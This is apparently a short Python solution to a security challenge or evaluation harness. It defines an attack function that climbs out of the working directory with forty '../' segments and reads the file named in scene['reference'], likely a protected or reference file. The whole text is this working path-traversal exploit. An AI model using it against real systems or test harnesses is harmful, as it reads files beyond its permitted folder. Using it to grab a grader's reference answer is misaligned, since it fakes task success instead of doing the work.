import os


def attack(scene, oracle):
    folder = os.open(".", os.O_DIRECTORY)
    path = "../" * 40 + scene["reference"].lstrip("/")
    return os.read(os.open(path, os.O_RDONLY, dir_fd=folder), 65536)
